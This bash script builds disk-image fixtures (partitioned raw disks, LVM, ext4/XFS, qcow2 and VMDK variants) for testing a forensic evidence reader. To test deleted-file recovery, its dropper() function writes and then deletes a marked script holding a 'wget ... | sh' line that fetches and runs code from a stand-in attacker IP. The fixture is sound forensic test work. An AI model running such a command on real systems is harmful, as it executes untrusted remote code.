#!/bin/bash
# Disk-image fixtures for evidence/disk and evidence/volume (and the ext4/XFS readers above them): the
# committed node collection written by the real tools into disk images as cloud nodes hold them, then
# converted by qemu-img into the VM formats. Run as root on Debian 12:
#
#   bash forge-disk.sh NODE_TGZ UPPER_REL OUTDIR
#
# NODE_TGZ: a node collection (a tar.gz of a fake root, or of one top-level dir holding it); UPPER_REL:
# the attacked container's upper dir inside it, where a dropper is written, synced and deleted after the
# copy (the recovery case). Needs gdisk fdisk(sfdisk) xfsprogs e2fsprogs dosfstools lvm2 qemu-utils
# zstd python3-vmdkstream jq. This machine has no udev and no device-mapper: partitions are written
# through offset loops (losetup -o --sizelimit), LVM metadata with --driverloaded n (never activated), and
# filesystems of LVs that are not one contiguous range are made in a file and written extent by extent.
#
# OUTDIR gets (all raw images sparse; every UUID fixed so that tests and fstabs can name them):
#   gpt-ext4.raw      128M GPT: p1 EFI vfat, p2 ext4 root                     (Ubuntu / GKE-like)
#   gpt-xfs.raw       400M GPT: p128 BIOS boot, p1 xfs root                   (EKS AL2023-like)
#   mbr-lvm-xfs.raw   512M MBR: p1 ext4 /boot, p2 LVM PV: vg0/root xfs, vg0/swap   (RHEL-like)
#   gpt-var.raw       448M GPT: p1 ext4 root whose /etc/fstab mounts p2 (xfs, by UUID) on /var
#   mbr-ext.raw       128M MBR: p1 ext4, p2 extended (p5 ext4, p6 swap, p7 vfat), p3 ext2
#   gpt-4k.raw         32M GPT on 4096-byte sectors: p1 BIOS boot, p2 ext4 (facts from sfdisk on a 4Kn loop)
#   lvm-striped.raw   160M GPT: p1+p2 PVs of vgdata (striped: 2 stripes of 64 KiB; spanned: linear
#                     over p1 then p2), p3 PV of vgother (solo)
#   gpt-ext4.qcow2 (v3) .zlib.qcow2 (compressed) .zstd.qcow2 (zstd compressed) .v2.qcow2 (compat 0.10,
#     4 KiB clusters) .zero.qcow2 (a copy with zero-flag clusters written by qemu-io)
#     .overlay.qcow2 (backing file gpt-ext4.qcow2, written over by qemu-io)
#   gpt-xfs.vmdk (qemu streamOptimized), gpt-xfs.gdend.vmdk (VMDKstream: streamOptimized, GD at end),
#   gpt-ext4.sparse.vmdk (monolithicSparse), gpt-ext4.child.vmdk (a child of it, written over by
#   qemu-io), vmdk-flat/mbr-ext.vmdk (+ -flat extent, monolithicFlat), vmdk-2gb/mbr-lvm-xfs.vmdk (twoGbMaxExtentSparse), vmdk-split/mbr-ext.vmdk (a descriptor of our own
#   naming two FLAT extent files, one at an offset, checked by qemu-img), split/gpt-ext4.raw.001..003
#   refuse/: qcow2 images deadnode must refuse (extended L2, LUKS-encrypted, external data file)
#   *.listing.txt     each root as the kernel mounted it: path|type|size|mode|uid|gid (LC_ALL=C sorted);
#                     *.sha256.txt the sha256 of every regular file in it
#   facts/            what the real tools say: blkid -p -o export, dumpe2fs -h, xfs_db (uuid, fname,
#                     version) per filesystem; pvs/vgs/lvs JSON per LVM image; sha256 of filesystems
#                     written outside the image (LVs that are not contiguous)
#   SHA256SUMS        of every disk's virtual content (raw images; the qemu-img raw conversion of others)
#   seeds/            tiny real images (a few KiB) for the fuzzers: tiny disks made by the same tools
#                     (GPT, MBR with logicals, LVM with a wrapped metadata area) and their qcow2/VMDK forms
set -euo pipefail
export LC_ALL=C LVM_SUPPRESS_FD_WARNINGS=1

NODE_TGZ=$(realpath "${1:?node collection (tar.gz)}")
UPPER=${2:?upper dir inside the node}
OUT=${3:?output dir}

[ "$(id -u)" = 0 ] || { echo "forge-disk.sh: must run as root (loop devices, mounts, lvm)" >&2; exit 1; }
missing=()
for t in sgdisk sfdisk partx losetup mount mkfs.ext4 mkfs.ext2 mkfs.xfs mkfs.vfat mkswap dumpe2fs xfs_db \
	blkid pvcreate qemu-img qemu-io zstd sha256sum jq; do
	command -v "$t" >/dev/null 2>&1 || missing+=("$t")
done
/usr/bin/python3 -c 'import VMDKstream' 2>/dev/null || missing+=("python3-vmdkstream")
if [ "${#missing[@]}" -gt 0 ]; then
	echo "forge-disk.sh: missing tools: ${missing[*]}" >&2
	echo "  apt-get install -y gdisk fdisk xfsprogs e2fsprogs dosfstools lvm2 qemu-utils zstd python3-vmdkstream jq" >&2
	exit 1
fi

mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
mkdir -p "$OUT/facts" "$OUT/seeds" "$OUT/refuse"
W=$(mktemp -d)
: >"$W/loops"
cleanup() {
	umount -q "$W/mnt/var" 2>/dev/null || true
	umount -q "$W/mnt" 2>/dev/null || true
	# only the loop devices this script attached, newest first
	tac "$W/loops" 2>/dev/null | while read -r l; do losetup -d "$l" 2>/dev/null || true; done
	rm -rf "$W"
}
trap cleanup EXIT
mkdir -p "$W/mnt" "$W/x"

tar --xattrs --xattrs-include='*' --numeric-owner -xzf "$NODE_TGZ" -C "$W/x"
if [ -d "$W/x/var" ]; then TREE=$W/x; else TREE=$(find "$W/x" -mindepth 1 -maxdepth 1 -type d | head -1); fi

# Fixed ids: d15c<NN> for filesystems, d15c9<NN> for GPT disks and partitions.
fsuuid() { printf 'd15c00%02x-0000-4000-8000-0000000000%02x' "$1" "$1"; }
guid() { printf 'd15c9%03x-0000-4000-8000-000000000%03x' "$1" "$1"; }

LOOPSECTOR=512
loop() { # FILE [OFFSET SIZE] -> a loop device, recorded for cleanup (losetup -f can race: retry)
	local dev i
	for i in 1 2 3 4 5 6 7 8; do
		if [ $# -ge 3 ]; then
			dev=$(losetup --show -f -b "$LOOPSECTOR" -o "$2" --sizelimit "$3" "$1" 2>/dev/null) && break
		else
			dev=$(losetup --show -f -b "$LOOPSECTOR" "$1" 2>/dev/null) && break
		fi
		sleep 0.3
	done
	[ -n "${dev:-}" ] || { echo "losetup failed for $1" >&2; return 1; }
	echo "$dev" >>"$W/loops"
	echo "$dev"
}
unloop() { losetup -d "$1"; grep -vxF "$1" "$W/loops" >"$W/loops.n" || true; mv "$W/loops.n" "$W/loops"; }
pstart() { partx -g -o START -n "$2" "$1" | tr -d ' '; }   # IMAGE N -> first sector
psectors() { partx -g -o SECTORS -n "$2" "$1" | tr -d ' '; }
part() { loop "$1" $(($(pstart "$1" "$2") * 512)) $(($(psectors "$1" "$2") * 512)); }

dropper() { # DIR: write the dropper into the upper dir, sync, delete it, sync
	mkdir -p "$1/tmp"
	printf '#!/bin/sh\n# DELETED-MARK-A-71c0 dropper\nwget -qO- http://198.51.100.23/s | sh\n' >"$1/tmp/.dropper.sh"
	sync
	rm "$1/tmp/.dropper.sh"
	sync
}
listing() { # MOUNTPOINT NAME: the kernel's view of the mounted tree
	(cd "$1" && find . -printf '%p|%y|%s|%m|%U|%G\n' | sort) >"$OUT/$2.listing.txt"
	(cd "$1" && find . -type f -print0 | sort -z | xargs -0r sha256sum) >"$OUT/$2.sha256.txt"
}
facts() { # DEV NAME: what blkid and the filesystem's own tool say about it
	blkid -p -o export "$1" >"$OUT/facts/$2.blkid" || true
	case $(blkid -p -s TYPE -o value "$1" 2>/dev/null || true) in
	ext2 | ext3 | ext4) dumpe2fs -h "$1" >"$OUT/facts/$2.dumpe2fs" 2>/dev/null ;;
	xfs) xfs_db -r -c 'sb 0' -c 'p uuid' -c 'p fname' -c 'p dblocks' -c 'p blocksize' -c version "$1" \
		>"$OUT/facts/$2.xfs_db" ;;
	esac
}

LVMCONF='devices { obtain_device_list_from_udev=0 use_devicesfile=0 } backup { backup=0 archive=0 }'
LVMDEVS=
lvmc() { # an lvm command on our loops only, without device-mapper; its warnings kept out of sight
	if ! "$@" --driverloaded n --config "$LVMCONF" --devices "$LVMDEVS" 2>"$W/lvm.err"; then
		cat "$W/lvm.err" >&2
		return 1
	fi
}
lvmq() { lvmc "$@" >/dev/null; }
lvm_report() { # NAME DEV=ID...: pvs/vgs/lvs as JSON, loop names replaced by the partition ids
	local name=$1 sedargs=() kv
	shift
	for kv in "$@"; do sedargs+=(-e "s#${kv%%=*}\"#${kv#*=}\"#g" -e "s#${kv%%=*}:#${kv#*=}:#g"); done
	lvmc pvs --reportformat json --units b -o pv_name,vg_name,pv_uuid,dev_size,pe_start,pv_pe_count |
		sed "${sedargs[@]}" >"$OUT/facts/$name.pvs.json"
	lvmc vgs --reportformat json --units b -o vg_name,vg_uuid,vg_extent_size,vg_seqno,lv_count,pv_count \
		>"$OUT/facts/$name.vgs.json"
	lvmc lvs -a --reportformat json --units b \
		-o vg_name,lv_name,lv_uuid,lv_size,segtype,seg_start_pe,seg_size_pe,stripes,stripe_size,seg_pe_ranges |
		sed "${sedargs[@]}" >"$OUT/facts/$name.lvs.json"
}
# seg_rows VG/LV: one line per segment: START_PE SIZE_PE STRIPES STRIPE_SIZE_BYTES DEV:FIRST-LAST...
seg_rows() {
	lvmc lvs --noheadings --separator '|' --units b --nosuffix \
		-o seg_start_pe,seg_size_pe,stripes,stripe_size,seg_pe_ranges "$1" |
		sed -e 's/^ *//' -e 's/|/ /g'
}
pe_start() { lvmc pvs --noheadings --units b --nosuffix -o pe_start "$1" | tr -d ' '; }
extent_size() { lvmc vgs --noheadings --units b --nosuffix -o vg_extent_size "$1" | tr -d ' '; }

# scatter FSFILE VG/LV IMAGE DEV=PARTNO...: write a filesystem made in a file into the LV's extents on
# the image, as device-mapper's linear and striped targets lay them out (chunk i of a segment goes to
# stripe i mod N, row i div N). Written with dd, in 64 KiB units (every offset here is a multiple).
scatter() {
	local fs=$1 lv=$2 img=$3 vg=${2%%/*} kv ext u=65536
	shift 3
	declare -A base=()
	for kv in "$@"; do
		base[${kv%%=*}]=$(($(pstart "$img" "${kv#*=}") * 512 + $(pe_start "${kv%%=*}")))
	done
	ext=$(extent_size "$vg")
	local start size stripes ssize ranges b
	while read -r start size stripes ssize ranges; do
		local -a devs=() firsts=()
		local r
		for r in $ranges; do
			devs+=("${r%%:*}")
			r=${r#*:}
			firsts+=("${r%%-*}")
		done
		if [ "$stripes" = 1 ]; then
			b=${base[${devs[0]}]}
			dd if="$fs" of="$img" bs=$u skip=$((start * ext / u)) seek=$(((b + firsts[0] * ext) / u)) \
				count=$((size * ext / u)) conv=notrunc,sparse status=none
		else
			local chunks=$((size * ext / ssize)) per=$((ssize / u)) i s row
			for ((i = 0; i < chunks; i++)); do
				s=$((i % stripes))
				row=$((i / stripes))
				b=${base[${devs[s]}]}
				dd if="$fs" of="$img" bs=$u skip=$(((start * ext + i * ssize) / u)) \
					seek=$(((b + firsts[s] * ext + row * ssize) / u)) count=$per \
					conv=notrunc,sparse status=none
			done
		fi
	done < <(seg_rows "$lv")
}

# ---------------------------------------------------------------------------------------------------
# 1. GPT + ext4 root (p2), EFI vfat (p1)
img=$OUT/gpt-ext4.raw
rm -f "$img"
truncate -s 128M "$img"
sgdisk -U "$(guid 1)" -n1:2048:+16M -t1:ef00 -c1:EFI -u1:"$(guid 0x11)" \
	-n2:0:0 -t2:8300 -c2:root -u2:"$(guid 0x12)" "$img" >/dev/null
l=$(part "$img" 1)
mkfs.vfat -n EFI -i d15c0001 "$l" >/dev/null
facts "$l" gpt-ext4.p1
unloop "$l"
l=$(part "$img" 2)
mkfs.ext4 -q -L cloudimg-rootfs -U "$(fsuuid 2)" "$l"
mount "$l" "$W/mnt"
cp -a "$TREE/." "$W/mnt/"
mkdir -p "$W/mnt/boot/efi"
printf 'UUID=%s\t/\text4\tdiscard,errors=remount-ro\t0 1\nUUID=D15C-0001\t/boot/efi\tvfat\tumask=0077\t0 1\n' \
	"$(fsuuid 2)" >"$W/mnt/etc/fstab"
dropper "$W/mnt/$UPPER"
listing "$W/mnt" gpt-ext4
umount "$W/mnt"
facts "$l" gpt-ext4.p2
unloop "$l"

# 2. GPT + xfs root (p1), BIOS boot (p128)
img=$OUT/gpt-xfs.raw
rm -f "$img"
truncate -s 400M "$img"
sgdisk -U "$(guid 2)" -n128:2048:+1M -t128:ef02 -c128:BIOS-BOOT -u128:"$(guid 0x280)" \
	-n1:0:0 -t1:8300 -c1:Linux -u1:"$(guid 0x21)" "$img" >/dev/null
l=$(part "$img" 1)
mkfs.xfs -q -L / -m uuid="$(fsuuid 3)" "$l"
mount "$l" "$W/mnt"
cp -a "$TREE/." "$W/mnt/"
printf 'UUID=%s\t/\txfs\tdefaults,noatime\t1 1\n' "$(fsuuid 3)" >"$W/mnt/etc/fstab"
dropper "$W/mnt/$UPPER"
listing "$W/mnt" gpt-xfs
umount "$W/mnt"
facts "$l" gpt-xfs.p1
unloop "$l"

# 3. MBR + /boot ext4 (p1) + LVM PV (p2): vg0/root xfs through an offset loop, vg0/swap
img=$OUT/mbr-lvm-xfs.raw
rm -f "$img"
truncate -s 512M "$img"
printf 'label: dos\nlabel-id: 0xd15c0003\n2048,64M,83,*\n,,8e\n' | sfdisk -q "$img"
l=$(part "$img" 1)
mkfs.ext4 -q -L boot -U "$(fsuuid 4)" "$l"
facts "$l" mbr-lvm-xfs.p1
unloop "$l"
pv=$(part "$img" 2)
LVMDEVS=$pv
lvmq pvcreate -q -ff -y "$pv"
lvmq vgcreate -q vg0 "$pv"
lvmq lvcreate -q -an -Zn -y -L 400M -n root vg0
lvmq lvcreate -q -an -Zn -y -L 32M -n swap vg0
lvm_report mbr-lvm-xfs "$pv=p2"
ext=$(extent_size vg0)
lvoff() { # VG/LV (one linear segment) -> byte offset in the image
	local start size stripes ssize range
	read -r start size stripes ssize range < <(seg_rows "$1")
	range=${range#*:}
	echo $(($(pstart "$img" 2) * 512 + $(pe_start "$pv") + ${range%-*} * ext))
}
root_off=$(lvoff vg0/root)
swap_off=$(lvoff vg0/swap)
blkid -p -o export "$pv" >"$OUT/facts/mbr-lvm-xfs.p2.blkid" || true
unloop "$pv"
l=$(loop "$img" "$swap_off" $((32 * 1024 * 1024)))
mkswap -L swap -U "$(fsuuid 5)" "$l" >/dev/null
facts "$l" mbr-lvm-xfs.vg0-swap
unloop "$l"
l=$(loop "$img" "$root_off" $((400 * 1024 * 1024)))
mkfs.xfs -q -L root -m uuid="$(fsuuid 6)" "$l"
mount "$l" "$W/mnt"
cp -a "$TREE/." "$W/mnt/"
printf '/dev/mapper/vg0-root\t/\txfs\tdefaults\t0 0\nUUID=%s\t/boot\text4\tdefaults\t1 2\n/dev/mapper/vg0-swap\tnone\tswap\tdefaults\t0 0\n' \
	"$(fsuuid 4)" >"$W/mnt/etc/fstab"
mkdir -p "$W/mnt/boot"
dropper "$W/mnt/$UPPER"
listing "$W/mnt" mbr-lvm-xfs
umount "$W/mnt"
facts "$l" mbr-lvm-xfs.vg0-root
unloop "$l"
printf 'vg0/root %d %d\nvg0/swap %d %d\n' "$root_off" $((400 * 1024 * 1024)) "$swap_off" $((32 * 1024 * 1024)) \
	>"$OUT/facts/mbr-lvm-xfs.lv-offsets"

# 4. GPT: ext4 root (p1) whose fstab mounts an xfs /var (p2) by UUID
img=$OUT/gpt-var.raw
rm -f "$img"
truncate -s 448M "$img"
sgdisk -U "$(guid 4)" -n1:2048:+64M -t1:8304 -c1:root -u1:"$(guid 0x41)" \
	-n2:0:0 -t2:4d21b016-b534-45c2-a9fb-5c16e091fd2d -c2:var -u2:"$(guid 0x42)" "$img" >/dev/null
lr=$(part "$img" 1)
lv=$(part "$img" 2)
mkfs.ext4 -q -L root -U "$(fsuuid 7)" "$lr"
mkfs.xfs -q -L var -m uuid="$(fsuuid 8)" "$lv"
mount "$lr" "$W/mnt"
(cd "$TREE" && find . -mindepth 1 -maxdepth 1 ! -name var -exec cp -a {} "$W/mnt/" \;)
mkdir -p "$W/mnt/var"
printf 'UUID=%s\t/\text4\tdefaults\t0 1\nUUID=%s\t/var\txfs\tdefaults\t0 0\n' "$(fsuuid 7)" "$(fsuuid 8)" \
	>"$W/mnt/etc/fstab"
mount "$lv" "$W/mnt/var"
cp -a "$TREE/var/." "$W/mnt/var/"
dropper "$W/mnt/$UPPER"
listing "$W/mnt" gpt-var
umount "$W/mnt/var"
umount "$W/mnt"
facts "$lr" gpt-var.p1
facts "$lv" gpt-var.p2
unloop "$lv"
unloop "$lr"

# 5. MBR with an extended partition and logical partitions
img=$OUT/mbr-ext.raw
rm -f "$img"
truncate -s 128M "$img"
printf 'label: dos\nlabel-id: 0xd15c0005\n,16M,83\n,80M,5\n,,83\n,16M,83\n,16M,82\n,,c\n' | sfdisk -q "$img"
for n in 1 3 5 6 7; do
	l=$(part "$img" $n)
	case $n in
	1) mkfs.ext4 -q -L primary1 -U "$(fsuuid 9)" "$l" ;;
	3) mkfs.ext2 -q -L primary3 -U "$(fsuuid 10)" "$l" ;;
	5) mkfs.ext4 -q -L logical5 -U "$(fsuuid 11)" "$l" ;;
	6) mkswap -L swap6 -U "$(fsuuid 12)" "$l" >/dev/null ;;
	7) mkfs.vfat -F 32 -n LOGICAL7 -i d15c0007 "$l" >/dev/null ;;
	esac
	if [ $n = 5 ]; then
		mount "$l" "$W/mnt"
		cp -a "$TREE/etc" "$W/mnt/"
		umount "$W/mnt"
	fi
	facts "$l" mbr-ext.p$n
	unloop "$l"
done

# 6. LVM across partitions: vgdata on p1+p2 (a striped LV and a linear LV spanning both PVs), vgother
#    on p3. Without device-mapper the LVs' filesystems are made in files and written extent by extent.
img=$OUT/lvm-striped.raw
rm -f "$img"
truncate -s 160M "$img"
sgdisk -U "$(guid 6)" -n1:2048:+64M -t1:8e00 -c1:pv-a -u1:"$(guid 0x61)" \
	-n2:0:+64M -t2:8e00 -c2:pv-b -u2:"$(guid 0x62)" \
	-n3:0:0 -t3:8e00 -c3:pv-c -u3:"$(guid 0x63)" "$img" >/dev/null
p1=$(part "$img" 1)
p2=$(part "$img" 2)
p3=$(part "$img" 3)
LVMDEVS=$p1,$p2,$p3
lvmq pvcreate -q -ff -y "$p1" "$p2" "$p3"
lvmq vgcreate -q -s 1M vgdata "$p1" "$p2"
lvmq vgcreate -q -s 1M vgother "$p3"
lvmq lvcreate -q -an -Zn -y -i2 -I64k -L 32M -n striped vgdata
lvmq lvcreate -q -an -Zn -y -L 8M -n spanned vgdata "$p1"
lvmq lvextend -q -L +8M vgdata/spanned "$p2"
lvmq lvcreate -q -an -Zn -y -L 8M -n solo vgother
lvm_report lvm-striped "$p1=p1" "$p2=p2" "$p3=p3"
mkfsfile() { # FILE SIZE_MIB MKFS...: a filesystem in a file, holding the node's /etc
	truncate -s "${2}M" "$1"
	"${@:3}" "$1" >/dev/null
	local fl
	fl=$(loop "$1")
	mount "$fl" "$W/mnt"
	cp -a "$TREE/etc" "$W/mnt/"
	umount "$W/mnt"
	unloop "$fl"
}
mkfsfile "$W/striped.fs" 32 mkfs.ext4 -q -F -L striped -U "$(fsuuid 13)"
mkfsfile "$W/spanned.fs" 16 mkfs.ext4 -q -F -L spanned -U "$(fsuuid 14)"
truncate -s 8M "$W/solo.fs"
mkfs.ext2 -q -F -L solo -U "$(fsuuid 15)" "$W/solo.fs"
for f in striped spanned solo; do
	facts "$W/$f.fs" "lvm-striped.$f"
	sha256sum <"$W/$f.fs" | cut -d' ' -f1 >"$OUT/facts/lvm-striped.$f.sha256"
done
scatter "$W/striped.fs" vgdata/striped "$img" "$p1=1" "$p2=2"
scatter "$W/spanned.fs" vgdata/spanned "$img" "$p1=1" "$p2=2"
scatter "$W/solo.fs" vgother/solo "$img" "$p3=3"
for l in "$p3" "$p2" "$p1"; do unloop "$l"; done
rm -f "$W"/*.fs

# 6b. GPT on a disk of 4096-byte logical sectors (a 4Kn drive): sgdisk and sfdisk work on a loop device
#     that has that sector size; partitions through offset loops of the same sector size.
img=$OUT/gpt-4k.raw
rm -f "$img"
truncate -s 32M "$img"
LOOPSECTOR=4096
l=$(loop "$img")
sgdisk -U "$(guid 8)" -n1:0:+1M -t1:ef02 -c1:bios -u1:"$(guid 0x81)" -n2:0:0 -t2:8300 -c2:data -u2:"$(guid 0x82)" "$l" >/dev/null
sfdisk --json "$l" | sed "s#$l#gpt-4k.raw#g" >"$OUT/facts/gpt-4k.sfdisk.json"
start=$(sfdisk --json "$l" | jq '.partitiontable.partitions[1].start')
size=$(sfdisk --json "$l" | jq '.partitiontable.partitions[1].size')
unloop "$l"
l=$(loop "$img" $((start * 4096)) $((size * 4096)))
mkfs.ext4 -q -b 4096 -L fourk -U "$(fsuuid 16)" "$l"
facts "$l" gpt-4k.p2
unloop "$l"
LOOPSECTOR=512

# 7. VM formats, converted from the raw disks by qemu-img (and VMDKstream for a footer-GD stream)
qemu-img convert -q -f raw -O qcow2 "$OUT/gpt-ext4.raw" "$OUT/gpt-ext4.qcow2"
qemu-img convert -q -c -f raw -O qcow2 "$OUT/gpt-ext4.raw" "$OUT/gpt-ext4.zlib.qcow2"
qemu-img convert -q -c -f raw -O qcow2 -o compression_type=zstd "$OUT/gpt-ext4.raw" "$OUT/gpt-ext4.zstd.qcow2"
qemu-img convert -q -f raw -O qcow2 -o compat=0.10,cluster_size=4096 "$OUT/gpt-ext4.raw" "$OUT/gpt-ext4.v2.qcow2"
cp "$OUT/gpt-ext4.qcow2" "$OUT/gpt-ext4.zero.qcow2"
# zero-flag clusters over allocated data (the ext4 root's first 512 KiB, and one cluster further on)
qemu-io -f qcow2 -c 'write -z 17M 512k' -c 'write -z 25362432 64k' "$OUT/gpt-ext4.zero.qcow2" >/dev/null
(cd "$OUT" && qemu-img create -q -f qcow2 -b gpt-ext4.qcow2 -F qcow2 gpt-ext4.overlay.qcow2 &&
	qemu-io -f qcow2 -c 'write -P 0xab 33M 64k' -c 'write -z 34M 128k' -c 'write -P 0x5c 127M 1M' \
		gpt-ext4.overlay.qcow2 >/dev/null)
qemu-img convert -q -f raw -O vmdk -o subformat=streamOptimized "$OUT/gpt-xfs.raw" "$OUT/gpt-xfs.vmdk"
/usr/bin/python3 -c 'import sys, VMDKstream; VMDKstream.convert_to_stream(sys.argv[1], sys.argv[2])' \
	"$OUT/gpt-xfs.raw" "$OUT/gpt-xfs.gdend.vmdk"
qemu-img convert -q -f raw -O vmdk -o subformat=monolithicSparse "$OUT/gpt-ext4.raw" "$OUT/gpt-ext4.sparse.vmdk"
(cd "$OUT" && qemu-img create -q -f vmdk -b gpt-ext4.sparse.vmdk -F vmdk gpt-ext4.child.vmdk &&
	qemu-io -f vmdk -c 'write -P 0xcd 20M 64k' -c 'write -P 0x3e 100M 192k' gpt-ext4.child.vmdk >/dev/null)
mkdir -p "$OUT/vmdk-flat" "$OUT/vmdk-2gb" "$OUT/vmdk-split" "$OUT/split"
qemu-img convert -q -f raw -O vmdk -o subformat=monolithicFlat "$OUT/mbr-ext.raw" "$OUT/vmdk-flat/mbr-ext.vmdk"
qemu-img convert -q -f raw -O vmdk -o subformat=twoGbMaxExtentSparse "$OUT/mbr-lvm-xfs.raw" "$OUT/vmdk-2gb/mbr-lvm-xfs.vmdk"
# Our own descriptor: two FLAT extents (mbr-ext.raw's first 48 MiB, then the rest, stored after 1 MiB of
# noise that the extent's offset skips); qemu-img compare checks it. (qemu ignores ZERO extents, so
# none here: the reader's ZERO support is unit-tested.)
dd if="$OUT/mbr-ext.raw" of="$OUT/vmdk-split/part-a.bin" bs=1M count=48 conv=sparse status=none
head -c 1M /dev/urandom >"$OUT/vmdk-split/part-b.bin"
dd if="$OUT/mbr-ext.raw" of="$OUT/vmdk-split/part-b.bin" bs=1M skip=48 seek=1 conv=sparse,notrunc status=none
cat >"$OUT/vmdk-split/mbr-ext.vmdk" <<'EOF'
# Disk DescriptorFile
version=1
CID=d15c0b0b
parentCID=ffffffff
createType="monolithicFlat"

# Extent description
RW 98304 FLAT "part-a.bin" 0
RW 163840 FLAT "part-b.bin" 2048

# The Disk Data Base
#DDB

ddb.virtualHWVersion = "4"
ddb.geometry.cylinders = "292"
ddb.geometry.heads = "16"
ddb.geometry.sectors = "63"
ddb.adapterType = "ide"
EOF
qemu-img compare -q -f vmdk -F raw "$OUT/vmdk-split/mbr-ext.vmdk" "$OUT/mbr-ext.raw"
for i in 1 2 3; do # split(1) would fill the holes: dd keeps the pieces sparse
	dd if="$OUT/gpt-ext4.raw" of="$OUT/split/gpt-ext4.raw.00$i" bs=1M skip=$(((i - 1) * 48)) count=48 conv=sparse status=none
done

# Refused: extended L2 entries (subclusters), LUKS encryption, an external data file
qemu-img create -q -f qcow2 -o extended_l2=on "$OUT/refuse/extl2.qcow2" 16M
qemu-io -f qcow2 -c 'write -P 0x11 1M 64k' "$OUT/refuse/extl2.qcow2" >/dev/null
for i in 1 2 3 4 5; do # LUKS times its key derivation, which fails now and then on a loaded machine
	qemu-img create -q -f qcow2 --object secret,id=s0,data=deadnode \
		-o encrypt.format=luks,encrypt.key-secret=s0,encrypt.iter-time=10 "$OUT/refuse/luks.qcow2" 16M && break
	sleep 1
done
[ -s "$OUT/refuse/luks.qcow2" ]
(cd "$OUT/refuse" && qemu-img create -q -f qcow2 -o data_file=extdata.bin "$OUT/refuse/extdata.qcow2" 16M)

# The virtual disk content of every image, as qemu-img reads it
(
	cd "$OUT"
	for f in *.raw; do printf '%s  %s\n' "$(sha256sum <"$f" | cut -d' ' -f1)" "$f"; done
	for f in *.qcow2 *.vmdk vmdk-flat/mbr-ext.vmdk vmdk-2gb/mbr-lvm-xfs.vmdk vmdk-split/mbr-ext.vmdk; do
		qemu-img convert -q -O raw "$f" "$W/virt.raw"
		printf '%s  %s\n' "$(sha256sum <"$W/virt.raw" | cut -d' ' -f1)" "$f"
		rm -f "$W/virt.raw"
	done
) >"$OUT/SHA256SUMS"
z=$(grep " gpt-ext4.zero.qcow2$" "$OUT/SHA256SUMS" | cut -d" " -f1)
r=$(grep " gpt-ext4.raw$" "$OUT/SHA256SUMS" | cut -d" " -f1)
[ "$z" != "$r" ] || { echo "gpt-ext4.zero.qcow2: the zero clusters landed on zeros" >&2; exit 1; }

# ---------------------------------------------------------------------------------------------------
# Seeds for the fuzzers: tiny real images, the same structures made by the same tools.
S=$OUT/seeds
pattern() { # IMAGE: a few recognisable blocks, some compressible, some not
	local off
	for off in 40000 200000 600000 1000000 1500000; do
		printf 'deadnode seed block at %d\n' "$off" | dd of="$1" bs=1 seek="$off" conv=notrunc status=none
	done
	head -c 8192 /dev/urandom | dd of="$1" bs=1 seek=300000 conv=notrunc status=none
}
truncate -s 2M "$S/tiny-gpt.raw"
sgdisk -a 1 -U "$(guid 7)" -n1:40:+256K -t1:8300 -c1:one -n2:0:+512K -t2:8e00 -c2:two "$S/tiny-gpt.raw" >/dev/null
pattern "$S/tiny-gpt.raw"
truncate -s 1M "$S/tiny-mbr-ext.raw"
printf 'label: dos\nlabel-id: 0xd15c0007\nstart=64,size=128,type=83\nstart=256,size=1024,type=5\nstart=1536,size=256,type=83\nstart=320,size=128,type=83\nstart=512,size=128,type=82\nstart=768,size=200,type=c\n' |
	sfdisk -q "$S/tiny-mbr-ext.raw"
t=$S/tiny-gpt.raw
qemu-img convert -q -f raw -O qcow2 -o cluster_size=4096 "$t" "$S/tiny.qcow2"
qemu-img convert -q -c -f raw -O qcow2 -o cluster_size=4096 "$t" "$S/tiny.zlib.qcow2"
qemu-img convert -q -c -f raw -O qcow2 -o cluster_size=4096,compression_type=zstd "$t" "$S/tiny.zstd.qcow2"
qemu-img convert -q -f raw -O qcow2 -o compat=0.10,cluster_size=512 "$t" "$S/tiny.v2.qcow2"
qemu-img convert -q -f raw -O vmdk -o subformat=monolithicSparse "$t" "$S/tiny.sparse.vmdk"
qemu-img convert -q -f raw -O vmdk -o subformat=streamOptimized "$t" "$S/tiny.stream.vmdk"
/usr/bin/python3 -c 'import sys, VMDKstream; VMDKstream.convert_to_stream(sys.argv[1], sys.argv[2])' "$t" "$S/tiny.gdend.vmdk"
qemu-img convert -q -f raw -O vmdk -o subformat=monolithicFlat "$t" "$W/tiny-flat.vmdk"
cp "$W/tiny-flat.vmdk" "$S/tiny.descriptor.vmdk"
cp "$OUT/vmdk-split/mbr-ext.vmdk" "$S/split.descriptor.vmdk"
# A disk of two small PVs (vgt: a striped and a linear LV) whose first metadata area has wrapped around
# its circular buffer: many small metadata updates until the newest copy crosses the end of the area.
truncate -s 5M "$S/tiny-lvm.raw"
sgdisk -a 1 -n1:40:+2M -t1:8e00 -n2:0:+2M -t2:8e00 "$S/tiny-lvm.raw" >/dev/null
p1=$(part "$S/tiny-lvm.raw" 1)
p2=$(part "$S/tiny-lvm.raw" 2)
LVMDEVS=$p1,$p2
lvmq pvcreate -q -ff -y --metadatasize 16k --dataalignment 64k "$p1" "$p2"
lvmq vgcreate -q -s 64k vgt "$p1" "$p2"
lvmq lvcreate -q -an -Zn -y -i2 -I8k -L 256k -n striped vgt
lvmq lvcreate -q -an -Zn -y -L 128k -n linear vgt
mda_wrapped() { # the PV's first mda: header at 4096; raw_locn[0] offset/size vs the area's size
	local size off len
	size=$(od -An -t u8 -j $((4096 + 32)) -N 8 "$1" | tr -d ' ')
	off=$(od -An -t u8 -j $((4096 + 40)) -N 8 "$1" | tr -d ' ')
	len=$(od -An -t u8 -j $((4096 + 48)) -N 8 "$1" | tr -d ' ')
	[ $((off + len)) -gt "$size" ]
}
for i in $(seq 1 300); do
	mda_wrapped "$p1" && break
	lvmq lvcreate -q -an -Zn -y -L 64k -n "tmp$i" vgt
	lvmq lvremove -q -y "vgt/tmp$i"
done
mda_wrapped "$p1" || { echo "tiny-lvm: the metadata area never wrapped" >&2; exit 1; }
lvm_report tiny-lvm "$p1=p1" "$p2=p2"
unloop "$p2"
unloop "$p1"
# Heads of the full images: partition tables, EBRs and PV labels with their metadata areas
head -c 65536 "$OUT/gpt-ext4.raw" >"$S/gpt-ext4.head"
head -c 65536 "$OUT/gpt-xfs.raw" >"$S/gpt-xfs.head"
head -c 65536 "$OUT/mbr-lvm-xfs.raw" >"$S/mbr-lvm-xfs.head"
